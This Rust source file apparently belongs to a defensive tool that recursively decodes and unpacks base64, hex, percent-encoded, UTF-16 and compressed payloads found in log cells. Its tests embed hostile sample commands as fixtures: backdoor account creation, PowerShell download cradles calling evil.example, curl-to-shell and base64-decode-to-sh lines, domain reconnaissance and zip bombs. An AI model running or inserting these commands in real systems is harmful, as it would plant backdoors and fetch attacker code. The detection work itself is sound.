//! The walk down through the layers: each payload is hashed and told, then what it holds is looked for in the same way.

use md5::{Digest, Md5};
use ring::digest::{SHA1_FOR_LEGACY_USE_ONLY, SHA256, digest};

use super::containers::{Member, members};
use super::judge::{Encoding, Ground, entropy};
use super::magic::{Container, FileType};
use super::markup::{Capped, Label, cut};
use super::reading::Reading;
use super::search::{Payload, search};
use super::{Finding, Unpacked, Wrapping};
use crate::model::{Budget, Stop, hex};

/// Times `kept` that the encoded texts shown beside members of archives may take together.
const ORIGINALS: usize = 8;

/// Finds the payloads of a cell and all that lies in them, as far as the budget goes.
pub fn unpack(text: &str, budget: &mut Budget) -> Unpacked {
    let originals = budget.limits().kept.saturating_mul(ORIGINALS);
    let mut walk = Walk { budget, findings: Vec::new(), originals };
    let full = walk.text(text, &Place { reference: None, depth: 1 });
    Unpacked { findings: walk.findings, full: full.unwrap_or_default() }
}

/// Where findings are looked for.
struct Place {
    /// The finding that is looked into; None for the cell.
    reference: Option<String>,
    /// The depth of what is found there.
    depth: u8,
}

/// A payload that was decoded and has not been looked at.
struct Item<'a> {
    wrapping: Wrapping,
    offset: Option<usize>,
    original: &'a str,
    member: Member,
    reading: Reading,
}

struct Walk<'b> {
    budget: &'b mut Budget,
    findings: Vec<Finding>,
    /// Bytes of encoded text that may still be shown beside members of archives.
    originals: usize,
}

impl Walk<'_> {
    /// Looks for payloads in a text; gives the text with them replaced, or None where there are none.
    fn text(&mut self, text: &str, place: &Place) -> Option<String> {
        let payloads = search(text, self.budget);
        if payloads.is_empty() {
            return None;
        }
        let mut full = Capped::new(self.budget.limits().kept, text.len());
        let (mut done, mut index) = (0, 0);
        for payload in payloads {
            if !self.has_place() {
                break;
            }
            index += 1;
            full.push(text.get(done..payload.range.start).unwrap_or_default());
            done = payload.range.end;
            full.push(&self.payload(payload, text, index, place));
        }
        full.push(text.get(done..).unwrap_or_default());
        (index > 0).then(|| full.finish())
    }

    /// Takes a place for one more finding; where there is none, the last finding says why.
    fn has_place(&mut self) -> bool {
        let mut stop = self.budget.stop();
        if stop.is_none() && self.budget.room() == 0 {
            stop = Some(self.budget.no_room());
        }
        if stop.is_none() && !self.budget.member() {
            stop = Some(Stop::Members(self.budget.limits().members));
        }
        if let (Some(stop), Some(last)) = (stop, self.findings.last_mut()) {
            last.truncated.get_or_insert_with(|| stop.to_string());
        }
        stop.is_none()
    }

    fn payload(&mut self, payload: Payload, text: &str, index: usize, place: &Place) -> String {
        let mut member = Member { bytes: payload.bytes, ..Member::default() };
        let mut reading = payload.reading;
        if member.bytes.len() > self.budget.room() {
            member.bytes.truncate(self.budget.room());
            member.stop = Some(self.budget.no_room());
            reading = None;
        }
        self.budget.spend(member.bytes.len());
        let original = text.get(payload.range.clone()).unwrap_or_default();
        let reading = reading.unwrap_or_else(|| Reading::of(&member, payload.ground));
        let (wrapping, offset) = (payload.wrapping, Some(payload.range.start));
        self.item(Item { wrapping, offset, original, member, reading }, index, place)
    }

    /// Notes a finding and all that lies in it; gives its markup.
    fn item(&mut self, item: Item<'_>, index: usize, place: &Place) -> String {
        let kept = self.budget.limits().kept;
        let mut finding = finding(&item, index, place, kept);
        let below = Place { reference: Some(finding.reference.clone()), depth: place.depth.saturating_add(1) };
        let at = self.findings.len();
        let Item { original, member: Member { name, bytes, .. }, reading, .. } = item;
        let file_type = reading.file_type();
        let label = Label { name: name.as_deref(), file_type, index, depth: place.depth };
        if let Reading::Text(_, text) = reading {
            finding.bytes = if bytes.len() > kept { start(&bytes, kept) } else { bytes };
            self.findings.push(finding);
            let full = self.below_text(&text, at, &below);
            let markup = label.text(full.as_deref().unwrap_or(&text), kept);
            if let Some(finding) = self.findings.get_mut(at) {
                finding.text = Some(if text.len() > kept { cut(&text, kept).to_owned() } else { text });
            }
            return markup;
        }
        finding.bytes = start(&bytes, kept);
        self.findings.push(finding);
        match reading {
            Reading::File(FileType { container: Some(container), .. }) => {
                match self.below_archive(container, &bytes, original, at, &below).as_slice() {
                    [] => label.binary(&bytes, kept),
                    [member] => cut(member, kept).to_owned(),
                    members => label.multiple(members, kept),
                }
            }
            _ => label.binary(&bytes, kept),
        }
    }

    /// Whether one more layer may be taken off.
    fn is_deep(&self, below: &Place) -> bool {
        below.depth > self.budget.limits().depth
    }

    fn mark(&mut self, at: usize, stop: Stop) {
        if let Some(finding) = self.findings.get_mut(at) {
            finding.truncated.get_or_insert_with(|| stop.to_string());
        }
    }

    fn below_text(&mut self, text: &str, at: usize, below: &Place) -> Option<String> {
        if !self.is_deep(below) {
            return self.text(text, below);
        }
        if !search(text, self.budget).is_empty() {
            self.mark(at, Stop::Depth(self.budget.limits().depth));
        }
        None
    }

    /// The markup of each member.
    fn below_archive(
        &mut self,
        container: Container,
        packed: &[u8],
        original: &str,
        at: usize,
        below: &Place,
    ) -> Vec<String> {
        if self.is_deep(below) {
            self.mark(at, Stop::Depth(self.budget.limits().depth));
            return Vec::new();
        }
        let members = members(container, packed, self.budget);
        let share = self.budget.limits().kept.min(self.originals / members.len().max(1));
        let original = cut(original, share);
        self.originals = self.originals.saturating_sub(original.len() * members.len());
        let mut markups = Vec::new();
        for member in members {
            // The place of a member that says why no further ones follow is not asked for its bytes' room.
            if !self.budget.member() {
                self.mark(at, Stop::Members(self.budget.limits().members));
                break;
            }
            let wrapping = wrapping_of(container);
            let reading = Reading::of(&member, Ground::Said);
            let item = Item { wrapping, offset: None, original, member, reading };
            markups.push(self.item(item, markups.len() + 1, below));
        }
        markups
    }
}

fn wrapping_of(container: Container) -> Wrapping {
    match container {
        Container::Gzip => Wrapping::Gzip,
        Container::Zlib => Wrapping::Zlib,
        Container::Deflate => Wrapping::Deflate,
        Container::Bzip2 => Wrapping::Bzip2,
        Container::Xz => Wrapping::Xz,
        Container::Zip => Wrapping::Zip,
        Container::Tar => Wrapping::Tar,
    }
}

fn start(bytes: &[u8], kept: usize) -> Vec<u8> {
    bytes.get(..kept).unwrap_or(bytes).to_vec()
}

/// What a payload is told to be, its bytes and its text still left out.
fn finding(item: &Item<'_>, index: usize, place: &Place, kept: usize) -> Finding {
    let bytes = item.member.bytes.as_slice();
    let encoding = if let Reading::Text(encoding, _) = item.reading { encoding } else { Encoding::Binary };
    let parent = place.reference.clone();
    Finding {
        reference: parent.as_ref().map_or_else(|| index.to_string(), |above| format!("{above}.{index}")),
        parent,
        depth: place.depth,
        offset: item.offset,
        original: cut(item.original, kept).to_owned(),
        file_name: item.member.name.clone(),
        file_type: item.reading.file_type(),
        container: item.wrapping,
        bytes: Vec::new(),
        size: bytes.len(),
        text: None,
        encoding,
        md5: hex(&Md5::digest(bytes)),
        sha1: hex(digest(&SHA1_FOR_LEGACY_USE_ONLY, bytes).as_ref()),
        sha256: hex(digest(&SHA256, bytes).as_ref()),
        entropy: entropy(bytes),
        truncated: item.member.stop.map(|stop| stop.to_string()),
    }
}

#[cfg(test)]
mod tests {
    use std::io::{Cursor, Write as _};
    use std::time::Duration;

    use base64::Engine;
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
    use flate2::Compression;
    use flate2::write::{DeflateEncoder, GzEncoder};
    use proptest::prelude::*;
    use zip::ZipWriter;
    use zip::write::SimpleFileOptions;

    use super::*;
    use crate::model::{Cancel, Limits, parted_hex};

    fn unpacked(text: &str) -> Unpacked {
        unpack(text, &mut Budget::new(Limits::default(), &Cancel::default()))
    }

    /// Reference, wrapping and text of each finding; the file's type where it is binary.
    fn found(text: &str) -> Vec<(String, &'static str, String)> {
        let shown = |f: Finding| {
            let what = f.text.unwrap_or_else(|| f.file_type.unwrap_or("binary").to_owned());
            (f.reference, f.container.as_str(), what)
        };
        unpacked(text).findings.into_iter().map(shown).collect()
    }

    fn texts(text: &str) -> Vec<String> {
        found(text).into_iter().map(|(_, _, what)| what).collect()
    }

    fn wide(text: &str) -> Vec<u8> {
        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    fn gzip(bytes: &[u8]) -> Vec<u8> {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
        encoder.write_all(bytes).unwrap();
        encoder.finish().unwrap()
    }

    fn deflate(bytes: &[u8]) -> Vec<u8> {
        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
        encoder.write_all(bytes).unwrap();
        encoder.finish().unwrap()
    }

    fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        for (name, bytes) in files {
            writer.start_file(*name, SimpleFileOptions::default()).unwrap();
            writer.write_all(bytes).unwrap();
        }
        writer.finish().unwrap().into_inner()
    }

    #[test]
    fn fault_14_short_unpadded_and_url_safe_payloads_are_found() {
        let command = "whoami /all";
        let wrapped =
            STANDARD.encode("net group \"Domain Admins\" /domain > C:\\Temp\\groups.txt && type C:\\Temp\\groups.txt");
        let (first, second) = wrapped.split_at(76);
        for (text, expected) in [
            (format!("x {} y", STANDARD.encode(command)), command.to_owned()),
            (STANDARD_NO_PAD.encode(wide(command)), command.to_owned()),
            (
                format!("q={};", URL_SAFE_NO_PAD.encode("what? when? who??~~~ where?")),
                "what? when? who??~~~ where?".to_owned(),
            ),
            (format!("http://h.example/{}", STANDARD.encode(command)), command.to_owned()),
            (
                format!("/opt/data/{}/part", STANDARD_NO_PAD.encode("curl http://h.example/a.sh")),
                "curl http://h.example/a.sh".to_owned(),
            ),
            (
                format!("x-y_{}", STANDARD.encode("net localgroup administrators")),
                "net localgroup administrators".to_owned(),
            ),
            (
                format!("{first}\r\n    {second}"),
                "net group \"Domain Admins\" /domain > C:\\Temp\\groups.txt && type C:\\Temp\\groups.txt".to_owned(),
            ),
        ] {
            assert_eq!(texts(&text), [expected], "{text}");
        }
        let three = format!(
            "a={};b='{}' {}",
            STANDARD.encode("first payload"),
            STANDARD.encode("second payload"),
            STANDARD.encode("third payload")
        );
        assert_eq!(texts(&three), ["first payload", "second payload", "third payload"]);
    }

    #[test]
    fn fault_15_paths_hashes_and_guids_are_no_payloads() {
        for text in [
            "COMMAND=/opt/vendor/agentconfig/Scripts/VendorAuditdPlugin.sh get /var/opt/vendor/agent/1b4e28ba/tmp",
            "/usr/lib/x86_64-linux-gnu/security/pam_unix.so /var/lib/docker/overlay2/merged",
            r"C:\Windows\System32\DriverStore\FileRepository\PrintQueueInboxDrivers\amd64",
            "d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef95601890afd80709",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "{1B4E28BA-2FA1-11D2-883F-0016D3CCA427} 1b4e28ba2fa111d2883f0016d3cca427",
            "-ServerName:App.AppXabcdefgh12345ijklmnop67890qrstuvwx.mca",
            "ShellExperienceHostServiceController MicrosoftWindowsClientWebExperience",
            "4111111111111111 20190210152100123456 00000000000000000000000000000000",
            "00-1A-2B-3C-4D-5E 00:1a:2b:3c:4d:5e 0x7ffdeadbeef01234",
            "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU",
            "--------------------------------------------------------------------",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "https://h.example/find?q=a%20b%20c%20d&lang=en&page=one&sort=descending",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn fault_16_utf_16_behind_a_switch_is_read() {
        for switch in ["-e", "-enc", "-EncodedCommand", "/eNcOd", "-^e^nc"] {
            let text = format!("powershell.exe -nop {switch} {}", STANDARD.encode(wide("IEX $x; whoami")));
            let all = unpacked(&text);
            assert_eq!(all.findings.len(), 1, "{text}");
            assert_eq!(all.findings[0].text.as_deref(), Some("IEX $x; whoami"));
            assert_eq!(all.findings[0].encoding, Encoding::Utf16Le);
        }
        let plain = format!("powershell -enc {}", STANDARD.encode("ping -n 15 h.example"));
        assert_eq!(unpacked(&plain).findings[0].encoding, Encoding::Utf8);
    }

    #[test]
    fn fault_17_a_nested_payload_followed_by_junk_is_unpacked_and_two_calls_agree() {
        let inner = STANDARD.encode("net user backdoor P4ss /add");
        let outer = STANDARD.encode(format!("run {inner} then /opt/vendor/agentconfig/Scripts/Plugin"));
        let text =
            format!("{outer} and /opt/vendor/agentconfig/Scripts/OtherPlugin {}", STANDARD.encode("second payload"));
        let first = unpacked(&text);
        let references: Vec<&str> = first.findings.iter().map(|f| f.reference.as_str()).collect();
        assert_eq!(references, ["1", "1.1", "2"]);
        assert_eq!(first.findings[1].text.as_deref(), Some("net user backdoor P4ss /add"));
        assert_eq!((first.findings[1].parent.as_deref(), first.findings[1].depth), (Some("1"), 2));
        assert_eq!(first, unpacked(&text));
        assert_eq!(
            first.full,
            "<decoded type='string' name='[None]' index='1' depth='1'>run \
             <decoded type='string' name='[None]' index='1' depth='2'>net user backdoor P4ss /add</decoded> \
             then /opt/vendor/agentconfig/Scripts/Plugin</decoded> and /opt/vendor/agentconfig/Scripts/OtherPlugin \
             <decoded type='string' name='[None]' index='2' depth='1'>second payload</decoded>"
        );
    }

    #[test]
    fn other_notations_and_tokens_are_found() {
        let header = URL_SAFE_NO_PAD.encode(r#"{"alg":"HS256","typ":"JWT"}"#);
        let claims = URL_SAFE_NO_PAD.encode(r#"{"sub":"svc-backup","admin":true}"#);
        let token = format!("Bearer {header}.{claims}.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk");
        assert_eq!(texts(&token), [r#"{"alg":"HS256","typ":"JWT"}"#, r#"{"sub":"svc-backup","admin":true}"#]);
        for text in [
            "echo 6e65742075736572202f646f6d61696e | xxd -r -p",
            "0x6e65742075736572202f646f6d61696e",
            r"printf '\x6e\x65\x74\x20\x75\x73\x65\x72\x20\x2f\x64\x6f\x6d\x61\x69\x6e'",
            "6e 65 74 20 75 73 65 72 20 2f 64 6f 6d 61 69 6e",
            "%6e%65%74%20%75%73%65%72%20%2f%64%6f%6d%61%69%6e",
        ] {
            assert_eq!(texts(text), ["net user /domain"], "{text}");
        }
        let inner = STANDARD.encode(wide("whoami /all"));
        let text =
            format!("cmd=powershell%20-nop%20-enc%20{inner}%20-w%20hidden&then=something+else+that+is+quite+long");
        assert_eq!(texts(&text).last().map(String::as_str), Some("whoami /all"));
    }

    #[test]
    fn every_notation_is_looked_for_inside_of_every_other() {
        let script = "Invoke-WebRequest http://evil.example/x.ps1";
        let percent = format!("%{}", parted_hex(script.as_bytes(), b'%'));
        let list = script.bytes().map(|b| format!("{b:#04x}")).collect::<Vec<_>>().join(",");
        for inner in [hex(script.as_bytes()), percent, list] {
            let text = STANDARD.encode(&inner);
            assert_eq!(texts(&text), [inner.as_str(), script], "{text}");
        }
    }

    #[test]
    fn slashes_that_json_escapes_are_read_over() {
        let script = "?>>?>?>?? whoami /all; net user >>>???";
        let (encoded, packed) =
            (STANDARD.encode(script), STANDARD.encode(gzip(&[b"ping ?>?> ", script.as_bytes()].concat())));
        assert!(encoded.contains('/') && packed.contains('/'));
        let in_json = |text: &str| format!(r#"{{"d":"{}"}}"#, text.replace('/', r"\/"));
        assert_eq!(texts(&in_json(&encoded)), [script]);
        assert_eq!(texts(&in_json(&packed)).last().map(String::as_str), Some(&*format!("ping ?>?> {script}")));
        assert_eq!(found(r#"{"path":"\/usr\/local\/lib\/python3\/dist-packages\/setuptools"}"#), []);
    }

    #[test]
    fn a_bomb_hides_nothing_behind_it() {
        let bomb = STANDARD.encode(gzip(&vec![0; 60 << 20]));
        let all = unpacked(&format!("{bomb} {0} {bomb} {0}", STANDARD.encode("whoami /all and then some")));
        let said: Vec<_> = all.findings.iter().filter_map(|f| f.text.as_deref()).collect();
        assert_eq!(said, ["whoami /all and then some"; 2]);
        assert_eq!(all.findings.iter().filter(|f| f.truncated.is_some()).count(), 2);
        let archive = STANDARD.encode(zip(&[("bomb", &vec![0; 60 << 20]), ("ok.txt", b"whoami /all and then some")]));
        assert!(texts(&archive).contains(&"whoami /all and then some".to_owned()), "{:?}", texts(&archive));
    }

    #[test]
    fn fingerprints_and_public_keys_are_no_payloads() {
        let key = STANDARD_NO_PAD.encode([b"\0\0\0\x0bssh-ed25519\0\0\0 ".as_slice(), &[0x5a; 32]].concat());
        // The fingerprint decodes to text, so that nothing but the word before it speaks against it.
        let print = STANDARD_NO_PAD.encode("thirty-two bytes of text are it!");
        for text in [
            format!("Accepted publickey for root from 10.0.0.1 port 22 ssh2: ED25519 SHA256:{print}"),
            format!("SHA256:{print}= root@h"),
            format!("MD5:{}", STANDARD.encode("sixteen letters.")),
            "MD5:16:27:ac:a5:76:28:2d:36:63:1b:56:4d:eb:df:a6:48".to_owned(),
            format!("ssh-ed25519 {key} root@h"),
            format!("sk-ssh-ed25519@openssh.com {key} root@h"),
        ] {
            assert_eq!(found(&text), [], "{text}");
        }
        assert_eq!(texts(&format!("key {print}")), ["thirty-two bytes of text are it!"]);
    }

    #[test]
    fn short_payloads_behind_known_decoders_are_found() {
        for text in [
            "eval(atob('aWQ='))",
            "<?php system(base64_decode(\"aWQ=\"));",
            "os.system(base64.b64decode('aWQ='))",
            "b64decode(b\"aWQ=\").decode()",
            "Buffer.from('aWQ=', 'base64').toString()",
            "Authorization: Basic aWQ=",
            "echo aWQ= | base64 -d",
            "echo -n 'aWQ=' | base64 --decode | sh",
            "/bin/echo aWQ=|base64 -D",
            "base64 -d <<< aWQ=",
        ] {
            assert_eq!(texts(text), ["id"], "{text}");
        }
        for text in ["cat file | base64 -d", "atob('x')", "Buffer.from('aWQ=', 'utf8')", "Basic aWQ="] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn payloads_of_few_letters_are_found_where_they_parse() {
        for (text, expected) in [
            ("x aHR0cDovLzEuMi4zLjQvYQ== y", "http://1.2.3.4/a"),
            ("MTkyLjE2OC4xLjEwMDo0NDQ0", "192.168.1.100:4444"),
            ("eyJhIjoxLCJiIjpbMSwyLDNdfQ==", r#"{"a":1,"b":[1,2,3]}"#),
        ] {
            assert_eq!(texts(text), [expected], "{text}");
        }
    }

    #[test]
    fn payloads_taken_apart_are_one() {
        let command = "net group \"Domain Admins\" /domain > C:\\Temp\\groups.txt && type C:\\Temp\\groups.txt \
                       && whoami /all && net user backdoor P4ssw0rd /add && ping -n 15 h.example";
        let encoded = STANDARD.encode(command);
        let lines = |width: usize| -> Vec<&str> {
            encoded.as_bytes().chunks(width).map(|line| std::str::from_utf8(line).unwrap()).collect()
        };
        let carets: String =
            encoded.char_indices().map(|(at, c)| if at % 5 == 4 { format!("^{c}") } else { c.to_string() }).collect();
        for text in [
            lines(76).join(" "),
            lines(64).join("\t"),
            format!("{{\"m\":\"{}\"}}", lines(76).join("\\n")),
            format!("{{\"m\":\"{}\"}}", lines(76).join("\\r\\n")),
            format!("> {}", lines(76).join("\n> ")),
            format!("$x='{}'", lines(20).join("'+'")),
            format!("var x = \"{}\";", lines(7).join("\" + \"")),
            format!("cmd /c powershell -enc {carets}"),
        ] {
            let all = unpacked(&text);
            assert_eq!(all.findings.len(), 1, "{text}");
            let finding = &all.findings[0];
            assert_eq!(finding.text.as_deref(), Some(command), "{text}");
            assert!(text[finding.offset.unwrap()..].starts_with(&finding.original));
            assert!(finding.original.ends_with(lines(7).last().unwrap()) || text.contains('^'));
        }
        let alone = format!("-enc {} -w hidden", STANDARD.encode("forty-eight bytes of a command that fill one line"));
        assert_eq!(texts(&alone), ["forty-eight bytes of a command that fill one line"]);
    }

    #[test]
    fn further_notations_are_found() {
        let words = |separator: &str, word: &dyn Fn(u8) -> String| {
            b"IEX ($x) whoami".iter().map(|b| word(*b)).collect::<Vec<_>>().join(separator)
        };
        let code = "IEX (New-Object Net.WebClient)";
        for (text, expected) in [
            ("run IEX%20%28New-Object%20Net.WebClient%29".to_owned(), vec![code]),
            (
                "IEX%2520%2528New-Object%2520Net.WebClient%2529".to_owned(),
                vec!["IEX%20%28New-Object%20Net.WebClient%29", code],
            ),
            (format!("({})", words(",", &|b| b.to_string())), vec!["IEX ($x) whoami"]),
            (words("", &|b| format!("\\u{b:04x}")), vec!["IEX ($x) whoami"]),
            (words("", &|b| format!("&#{b};")), vec!["IEX ($x) whoami"]),
            (format!("{}:21", words(":", &|b| format!("{b:02x}"))), vec!["IEX ($x) whoami!"]),
        ] {
            assert_eq!(texts(&text), expected, "{text}");
        }
        for text in [
            "https://h.example/search?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82",
            "80,443,8080,22,21,25,110,143,993,995,3389",
            "45,67,89,34,56,78,90,65,71,83",
            "16:27:ac:a5:76:28:2d:36:63:1b:56:4d:eb:df:a6:48:00:01:02:03",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn strings_that_end_in_zeros_keep_their_bytes() {
        let all = unpacked(&STANDARD.encode(b"net user backdoor /add\0\0"));
        let finding = &all.findings[0];
        assert_eq!((finding.text.as_deref(), finding.size), (Some("net user backdoor /add"), 24));
        assert!(finding.bytes.ends_with(b"/add\0\0"));
    }

    #[test]
    fn what_is_said_to_be_encoded_is_a_finding_even_as_binary() {
        let bytes: Vec<u8> = (0..30_u8).map(|n| n.wrapping_mul(151) ^ 0xa5).collect();
        let payload = STANDARD_NO_PAD.encode(&bytes);
        let said = unpacked(&format!("[Convert]::FromBase64String('{payload}')"));
        assert_eq!(said.findings[0].bytes, bytes);
        assert_eq!((said.findings[0].encoding, said.findings[0].text.as_deref()), (Encoding::Binary, None));
        assert!(said.full.contains("<decoded value='binary'  name='[None]' type='None' index='1' depth='1'>"));
        assert_eq!(found(&format!("id {payload}")), []);
        assert_eq!(texts("powershell -e aGVsbG8h"), ["hello!"]);
    }

    #[test]
    fn containers_are_taken_apart() {
        let text = STANDARD.encode(gzip(b"net user backdoor /add"));
        assert_eq!(
            found(&text),
            [
                ("1".to_owned(), "base64", "gz".to_owned()),
                ("1.1".to_owned(), "gzip", "net user backdoor /add".to_owned())
            ]
        );
        let script = format!("FromBase64String('{}')", STANDARD.encode(deflate(b"IEX (New-Object Net.WebClient)")));
        assert_eq!(texts(&script), ["deflate", "IEX (New-Object Net.WebClient)"]);
        let packed = zip(&[("../../a.txt", b"first member"), ("b.txt.gz", &gzip(b"second member"))]);
        let all = unpacked(&STANDARD.encode(packed));
        let names: Vec<_> = all.findings.iter().map(|f| (f.reference.as_str(), f.file_name.as_deref())).collect();
        assert_eq!(names, [("1", None), ("1.1", Some("../../a.txt")), ("1.2", Some("b.txt.gz")), ("1.2.1", None)]);
        assert!(all.full.starts_with(
            "<decoded type='multiple' name='[None]' index='1' depth='1'><decoded type='string' name='[../../a.txt]'"
        ));
    }

    #[test]
    fn bombs_end_with_a_reason_and_little_memory() {
        let zeros = vec![0; 100 << 20];
        for packed in [gzip(&zeros), zip(&[("zeros", &zeros)]), gzip(&gzip(&zeros))] {
            let all = unpacked(&STANDARD.encode(packed));
            let last = all.findings.last().unwrap();
            let reason = last.truncated.as_deref().unwrap();
            assert!(
                reason == "200 times its size" || reason.ends_with("bytes is its share of what one cell may take"),
                "{reason}"
            );
            assert!(last.size <= 8 << 20 && last.bytes.len() <= 1 << 20 && all.full.len() <= 1 << 20);
        }
    }

    #[test]
    fn layers_end_at_the_limit() {
        let mut text = "whoami /all and be done".to_owned();
        for _ in 0..25 {
            text = STANDARD.encode(&text);
        }
        let all = unpacked(&text);
        assert_eq!(all.findings.len(), 20);
        assert_eq!(all.findings[19].truncated.as_deref(), Some("20 layers"));
        assert!(all.findings[..19].iter().all(|f| f.truncated.is_none()));
        let mut bytes = b"whoami /all".to_vec();
        for _ in 0..25 {
            bytes = gzip(&bytes);
        }
        let all = unpacked(&STANDARD.encode(bytes));
        assert_eq!((all.findings.len(), all.findings[19].truncated.as_deref()), (20, Some("20 layers")));
    }

    #[test]
    fn findings_and_bytes_of_a_cell_are_counted() {
        let many = format!("{} ", STANDARD.encode("payload number one")).repeat(5);
        let limits = Limits { members: 3, ..Limits::default() };
        let all = unpack(&many, &mut Budget::new(limits, &Cancel::default()));
        assert_eq!(
            (all.findings.len(), all.findings[2].truncated.as_deref()),
            (3, Some("3 payloads is the limit of one cell"))
        );
        let limits = Limits { bytes: 30, ..Limits::default() };
        let all = unpack(&many, &mut Budget::new(limits, &Cancel::default()));
        assert_eq!((all.findings.len(), all.findings[1].size), (2, 12));
        assert_eq!(all.findings[1].truncated.as_deref(), Some("30 bytes is the limit of one cell"));
        let limits = Limits { kept: 8, ..Limits::default() };
        let all = unpack(&many, &mut Budget::new(limits, &Cancel::default()));
        assert_eq!((all.findings[0].text.as_deref(), all.findings[0].size), (Some("payload "), 18));
        assert_eq!(all.findings[0].sha256, hex(digest(&SHA256, b"payload number one").as_ref()));
    }

    #[test]
    fn long_hostile_runs_take_time_in_proportion() {
        for pattern in [
            "dGV4dCB0ZXh0IHRl/",
            "aaaa/",
            "dGV4/",
            "%25",
            "\\x41",
            "41 ",
            "=",
            "-----BEGIN\n",
            "aGVsbG8gd29ybGQh\n",
            "a^",
            "'a'+",
            "65,",
            "41:",
            "\\u0041",
            "\\u043f",
            "41-41 ",
            "99,101,98,0,",
            "&#65;",
            "A\\n",
        ] {
            let text = pattern.repeat((1 << 20) / pattern.len());
            let limits = Limits { members: 100_000, time: Duration::from_mins(10), ..Limits::default() };
            let started = std::time::Instant::now();
            unpack(&text, &mut Budget::new(limits, &Cancel::default()));
            assert!(started.elapsed().as_secs() < 20, "{pattern}");
        }
    }

    proptest! {
        /// Printable text of some length is found whatever it is wrapped in, between words, spaces and quotes.
        #[test]
        fn encoded_words_are_found(words in "[a-z]{4,9}( [a-z]{3,9}){2,12}", way in 0..6_usize, before in "[a-z ]{0,12}") {
            // A short number in hexadecimal is a number.
            prop_assume!(way != 4 || words.len() >= 16 || hex(words.as_bytes()).contains(|c: char| c.is_alphabetic()));
            let payload = match way {
                0 => STANDARD.encode(&words),
                1 => STANDARD_NO_PAD.encode(&words),
                2 => URL_SAFE.encode(&words),
                3 => URL_SAFE_NO_PAD.encode(wide(&words)),
                4 => hex(words.as_bytes()).to_uppercase(),
                _ => STANDARD.encode(&words).as_bytes().chunks(32).map(String::from_utf8_lossy).collect::<Vec<_>>().join("\r\n"),
            };
            let all = texts(&format!("{before} '{payload}' end"));
            prop_assert_eq!(all, vec![words]);
        }

        #[test]
        fn no_text_breaks_it(text in "([A-Za-z0-9+/=%é_ \\\\x\r\n-]{0,40}|\\PC{0,20}){0,6}") {
            let all = unpacked(&text);
            for finding in all.findings.iter().filter(|f| f.depth == 1) {
                prop_assert!(text[finding.offset.unwrap()..].starts_with(&finding.original));
            }
        }
    }
}
